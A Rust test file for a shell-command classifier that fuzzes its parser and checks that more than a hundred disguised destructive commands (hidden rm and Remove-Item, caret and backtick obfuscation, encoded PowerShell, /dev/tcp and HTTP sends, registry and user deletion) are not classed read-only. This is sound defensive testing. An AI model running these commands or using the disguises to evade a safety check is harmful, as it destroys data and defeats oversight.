//! Texts made to mislead or to exhaust.

use caisey_command::{ActionClass, STEPS_FOR_FREE, STEPS_PER_BYTE, read, read_counted};
use caisey_ledger::event::Interpreter;
use proptest::prelude::*;

const ALL: [Interpreter; 5] = [
    Interpreter::Sh,
    Interpreter::Bash,
    Interpreter::Pwsh,
    Interpreter::Powershell,
    Interpreter::Cmd,
];

/// Pieces from which the commands of the fuzzed texts are put together.
const PIECES: &[&str] = &[
    "ls",
    "rm",
    "Get-Item",
    "Remove-Item",
    "del",
    "echo",
    "sudo ",
    "find . ",
    "-exec ",
    "\\;",
    "-delete",
    "{",
    "}",
    "(",
    ")",
    "$(",
    "`",
    "\"",
    "'",
    "@'\n",
    "\n'@",
    "@\"\n",
    "\n\"@",
    "<<EOF\n",
    "\nEOF\n",
    "$x",
    "${x}",
    "${!x}",
    "%x%",
    "%i",
    "^",
    "&",
    "&&",
    "|",
    "||",
    ";",
    "\n",
    " ",
    "\t",
    "#",
    "<#",
    "#>",
    ">",
    ">>",
    "2>&1",
    "<",
    "<(",
    "[",
    "]",
    "[[",
    "]]",
    "((",
    "))",
    "=",
    "==",
    "-c ",
    "sh ",
    "powershell -enc ",
    "cmd /c ",
    "for ",
    "in ",
    "do ",
    "done",
    "if ",
    "then ",
    "fi",
    "foreach ",
    "function ",
    "\u{200b}",
    "\u{2019}",
    "é",
    "日本",
    "\\",
    "$'",
    "--",
    "-",
    "/",
    "C:\\x",
    "/etc/x",
    "awk '{",
    "sed 's/",
    "iex ",
    "RwBlAHQA",
];

fn within_bounds(interpreter: Interpreter, text: &str) {
    let (reading, steps) = read_counted(interpreter, text);
    assert!(
        reading
            .resources
            .iter()
            .all(|found| found.span.start <= found.span.end && found.span.end <= text.len())
    );
    assert!(
        reading
            .reasons
            .iter()
            .all(|reason| reason.span.start <= reason.span.end && reason.span.end <= text.len())
    );
    // When the steps are used up, what is under way is still finished: one look at each byte at most.
    assert!(
        steps <= text.len() * (STEPS_PER_BYTE + 1) + STEPS_FOR_FREE,
        "{steps} steps for {} bytes",
        text.len()
    );
}

/// Each of these once ended the whole program, in the grammar's scanner.
#[test]
fn braces_before_large_characters_are_survived() {
    for text in [
        "{\u{10ffff}",
        "echo {\u{20ac0}",
        "a{1..\u{e0100}}",
        "{1..\u{1f600}}",
        "echo {\u{4f60}\u{597d}}",
    ] {
        for interpreter in ALL {
            within_bounds(interpreter, text);
        }
    }
}

/// Any text up to the size that is read: any characters, those that shells give a meaning to and those that do not show more often.
fn any_text() -> impl Strategy<Value = String> {
    let signs = prop_oneof![
        4 => any::<char>(),
        4 => (0u8..128).prop_map(char::from),
        2 => proptest::sample::select("$`'\"(){}[]<>|&;\\^%!#@*?~=-/ \t".chars().collect::<Vec<char>>()),
        1 => proptest::sample::select("\0\n\r\u{7}\u{1b}\u{85}\u{a0}\u{200b}\u{200f}\u{202a}\u{202e}\u{2028}\u{2066}\u{2069}\u{feff}".chars().collect::<Vec<char>>()),
    ];
    let length = prop_oneof![20 => 0usize..200, 4 => 200usize..2_000, 1 => 2_000usize..16_384];
    length
        .prop_flat_map(move |length| proptest::collection::vec(signs.clone(), length))
        .prop_map(|all| {
            let mut text: String = all.into_iter().collect();
            let mut end = text.len().min(16 * 1024);
            while !text.is_char_boundary(end) {
                end -= 1;
            }
            text.truncate(end);
            text
        })
}

/// Cases of each property below: `PROPTEST_CASES`, or enough for every build.
fn cases() -> ProptestConfig {
    let asked = std::env::var("PROPTEST_CASES").ok().and_then(|cases| cases.parse().ok());
    ProptestConfig {
        cases: asked.unwrap_or(400),
        failure_persistence: None,
        ..ProptestConfig::default()
    }
}

proptest! {
    #![proptest_config(cases())]

    #[test]
    fn anything_at_all(text in any_text(), which in 0usize..5) {
        within_bounds(ALL[which], &text);
    }

    #[test]
    fn anything_that_looks_like_commands(pieces in proptest::collection::vec(0..PIECES.len(), 0..60), which in 0usize..5) {
        let text: String = pieces.iter().map(|piece| PIECES[*piece]).collect();
        within_bounds(ALL[which], &text);
    }

    /// Whatever is done to a harmful command's quoting and case, it does not become harmless.
    #[test]
    fn disguises_do_not_help(caps in proptest::collection::vec(any::<bool>(), 11), tick in 1usize..11) {
        let cased: String = "remove-item".chars().zip(&caps).map(|(letter, up)| if *up { letter.to_ascii_uppercase() } else { letter }).collect();
        let ticked = format!("{}`{} C:\\x", &cased[..tick], &cased[tick..]);
        prop_assert_ne!(read(Interpreter::Pwsh, &ticked).class, ActionClass::ReadOnly);
        let carets: String = "del C:\\x".to_string().chars().flat_map(|letter| if letter == 'e' { vec!['^', letter] } else { vec![letter] }).collect();
        prop_assert_ne!(read(Interpreter::Cmd, &carets).class, ActionClass::ReadOnly);
    }
}

/// Shapes that make parsers go back and forth stay within so many steps per byte, which is what linear means.
#[test]
fn work_is_linear() {
    let shapes: &[(&str, &str)] = &[
        ("", "ls /x; "),
        ("", "ls | "),
        ("", "a && "),
        ("", "$("),
        ("", "("),
        ("", "{ "),
        ("", "\""),
        ("", "'"),
        ("", "`"),
        ("", "@'\n"),
        ("", "<<E\n"),
        ("", "<# "),
        ("echo ", "'a'"),
        ("echo ", "\"$x\""),
        ("ls -", "a"),
        ("", "for %i in (x) do "),
        ("", "if exist x "),
        ("", "[["),
        ("", "${x:-"),
        ("echo ", "{a,b}"),
        ("sed ", "s/[["),
        ("", "Get-Item x | "),
        ("$x = ", "@("),
        ("", "sh -c "),
        ("", "x=1 "),
        ("", "\n"),
        ("", "%x%"),
        ("", "\\"),
        ("", "^"),
        ("", "> a "),
        ("echo ", "a,"),
        ("cat ", "<(ls) "),
    ];
    for interpreter in ALL {
        for (head, unit) in shapes {
            for bytes in [1_000, 4_000, 16_000] {
                within_bounds(interpreter, &format!("{head}{}", unit.repeat(bytes / unit.len())));
            }
        }
    }
}

#[test]
fn a_text_that_is_too_long_is_opaque() {
    let reading = read(Interpreter::Bash, &"ls ".repeat(30_000));
    assert_eq!(reading.class, ActionClass::Opaque);
}

/// Each of these was made to be taken for read-only, and is not.
#[test]
fn tricks() {
    let tricks: &[(Interpreter, &str)] = &[
        (Interpreter::Bash, "echo $'a\\\\' ; rm -rf /srv; echo 'b'"),
        (Interpreter::Bash, "ls foo#bar; rm x"),
        (Interpreter::Bash, "find . -{delete,print}"),
        (Interpreter::Bash, "find . $x"),
        (Interpreter::Bash, "x=-delete; find . $x"),
        (Interpreter::Bash, "sort *"),
        (Interpreter::Bash, "sort --outp=x y"),
        (Interpreter::Bash, "sort -ro x y"),
        (Interpreter::Bash, "rm >log x"),
        (Interpreter::Bash, ">log rm x"),
        (Interpreter::Bash, "PATH=/tmp ls"),
        (Interpreter::Bash, "PATH=/tmp; ls"),
        (Interpreter::Bash, "export LD_PRELOAD=/tmp/x; ls"),
        (Interpreter::Bash, "alias ls=rm; ls x"),
        (Interpreter::Bash, "trap 'rm x' EXIT"),
        (Interpreter::Bash, "ls() { rm x; }; ls"),
        (Interpreter::Bash, "(foo() { ls; }); foo"),
        (Interpreter::Bash, "x='a[$(rm x)]'; echo $((x))"),
        (Interpreter::Bash, "[[ 1 -eq 'a[$(rm x)]' ]]"),
        (Interpreter::Bash, "printf -v 'a[$(rm x)]' y"),
        (Interpreter::Bash, "echo ${x@P}"),
        (Interpreter::Bash, "cat <<E\n$(rm x)\nE"),
        (Interpreter::Bash, "cat <<E\n`rm x`\nE"),
        (Interpreter::Bash, "cat <<'E'\nE\nrm x\nE"),
        (Interpreter::Bash, "ls | xargs rm"),
        (Interpreter::Bash, "ls | xargs find"),
        (Interpreter::Bash, "git -c core.pager=rm log"),
        (Interpreter::Bash, "git log --output=x"),
        (Interpreter::Bash, "GIT_PAGER=rm git log"),
        (Interpreter::Bash, "watch ls ';' rm x"),
        (Interpreter::Bash, "ssh host 'rm x'"),
        (Interpreter::Bash, "ssh -oProxyCommand=x host ls"),
        (Interpreter::Bash, "awk 'BEGIN{system(\"rm x\")}'"),
        (Interpreter::Bash, "sed -n '1e rm x' y"),
        (Interpreter::Bash, "sed 's/a/b/w /etc/x' y"),
        (Interpreter::Bash, "tar tf x --to-command=rm"),
        (Interpreter::Bash, "tar -tf x -I 'rm y'"),
        (Interpreter::Bash, "man -P 'rm x' ls"),
        (Interpreter::Bash, "date 010100002026"),
        (Interpreter::Bash, "hostname evil"),
        (Interpreter::Bash, "echo x > /dev/tcp/198.51.100.7/80"),
        (Interpreter::Bash, "ls\r\nrm x"),
        (Interpreter::Bash, "r\\\nm x"),
        (Interpreter::Bash, "'r'm x"),
        (Interpreter::Bash, "/tmp/ls"),
        (Interpreter::Bash, "./ls"),
        (Interpreter::Bash, "l\u{455} x"),
        (Interpreter::Bash, "command rm x"),
        (Interpreter::Bash, "env -S 'rm x'"),
        (Interpreter::Bash, "nice -n 5 rm x"),
        (Interpreter::Bash, "coproc rm x"),
        (Interpreter::Sh, "[[ a > b ]]"),
        (Interpreter::Sh, "[ a > b ]"),
        (Interpreter::Bash, "mount -a"),
        (Interpreter::Bash, "sysctl net.ipv4.ip_forward=1"),
        (Interpreter::Bash, "git reflog expire --all"),
        (Interpreter::Bash, "iptables -L -Z"),
        (Interpreter::Bash, "set -o allexport"),
        (Interpreter::Powershell, "echo a\"b 'c\" ; Remove-Item x ; echo \"d' e\"f"),
        (Interpreter::Powershell, "<# `#> Remove-Item x #>"),
        (Interpreter::Powershell, "Get-Item x\rRemove-Item y"),
        (Interpreter::Powershell, "Get-ChildItem | % Delete"),
        (Interpreter::Powershell, "Get-ChildItem | % { $_.Delete() }"),
        (Interpreter::Powershell, "(Get-Item x).Delete()"),
        (Interpreter::Powershell, "[IO.File]::Delete('x')"),
        (Interpreter::Powershell, "[System.IO.File]::Delete('x')"),
        (Interpreter::Powershell, "& (\"Remove\" + \"-Item\") x"),
        (Interpreter::Powershell, "& ('Remove-Item') x"),
        (Interpreter::Powershell, "&{Remove-Item x}"),
        (Interpreter::Powershell, ". { Remove-Item x }"),
        (Interpreter::Powershell, "ri x"),
        (Interpreter::Powershell, "sc stop spooler"),
        (Interpreter::Powershell, "Set-Alias gci Remove-Item; gci x"),
        (Interpreter::Powershell, "function Get-Item { Remove-Item x }; Get-Item"),
        (Interpreter::Powershell, "$function:x = 'y'"),
        (Interpreter::Powershell, "${C:\\x.txt} = 'y'"),
        (Interpreter::Powershell, "(Get-Item x).IsReadOnly = $false"),
        (Interpreter::Powershell, "Get-Content x | Out-File y"),
        (Interpreter::Powershell, "Get-Content x > y"),
        (Interpreter::Powershell, "Get-Date \u{2013}Format x; \u{201c}a\u{201d}"),
        (Interpreter::Powershell, "Get-Item \"$(Remove-Item x)\""),
        (Interpreter::Powershell, "Get-Item @\"\n$(Remove-Item x)\n\"@"),
        (Interpreter::Powershell, "Get-ChildItem | Where-Object { Remove-Item $_ }"),
        (Interpreter::Powershell, "Select-Object @{n='a';e={Remove-Item x}}"),
        (Interpreter::Powershell, "cmd /c del x"),
        (Interpreter::Powershell, "cmd /c \"dir & del x\""),
        (Interpreter::Powershell, "powershell -e UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAeAA="),
        (
            Interpreter::Powershell,
            "powershell -Enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAeAA=",
        ),
        (Interpreter::Powershell, "iwr http://x -OutF y"),
        (Interpreter::Powershell, "iwr http://x -Method Post"),
        (Interpreter::Powershell, "Test-ComputerSecureChannel -Repair"),
        (Interpreter::Powershell, "Get-WindowsUpdate -Install"),
        (Interpreter::Powershell, "Get-Foo.ps1"),
        (Interpreter::Powershell, ".\\Get-Item"),
        (Interpreter::Powershell, "Evil\\Get-Item x"),
        (
            Interpreter::Powershell,
            "netsh advfirewall firewall show rule name=x --% & del y",
        ),
        (Interpreter::Powershell, "[scriptblock]::Create('rm x').Invoke()"),
        (Interpreter::Powershell, "Get-Process | Stop-Process -WhatIf:$false"),
        (Interpreter::Powershell, "try { Get-Item x } catch { Remove-Item x }"),
        (Interpreter::Powershell, "if ($true) { Get-Item } else { Remove-Item x }"),
        (Interpreter::Cmd, "d^e^l x"),
        (Interpreter::Cmd, "\"del\" x"),
        (Interpreter::Cmd, "dir & del x"),
        (Interpreter::Cmd, "dir\ndel x"),
        (Interpreter::Cmd, "echo %X%"),
        (Interpreter::Cmd, "%COMSPEC:~0,1%md x"),
        (Interpreter::Cmd, "if exist x del x"),
        (Interpreter::Cmd, "if \"a\"==\"a\" (dir) else (del x)"),
        (Interpreter::Cmd, "for %i in (*) do del %i"),
        (Interpreter::Cmd, "for /f %i in ('del x') do echo %i"),
        (Interpreter::Cmd, "call del x"),
        (Interpreter::Cmd, "start /b cmd /c del x"),
        (Interpreter::Cmd, "cmd /v:on /c \"set x=del&!x! y\""),
        (Interpreter::Cmd, "echo x>y"),
        (Interpreter::Cmd, "@del x"),
        (Interpreter::Cmd, "(del x)"),
        (Interpreter::Cmd, "dir /b | cmd"),
        (Interpreter::Cmd, "C:\\Temp\\dir.exe"),
        (Interpreter::Cmd, "reg.exe delete HKLM\\x /f"),
        (Interpreter::Cmd, "net  user x /delete"),
        (Interpreter::Cmd, "attrib +h x"),
        (Interpreter::Cmd, "date 01-01-2026"),
        (Interpreter::Cmd, "path C:\\evil & dir"),
    ];
    let fooled: Vec<_> = tricks
        .iter()
        .filter(|(interpreter, text)| read(*interpreter, text).class == ActionClass::ReadOnly)
        .collect();
    assert!(fooled.is_empty(), "taken for read-only: {fooled:#?}");
}
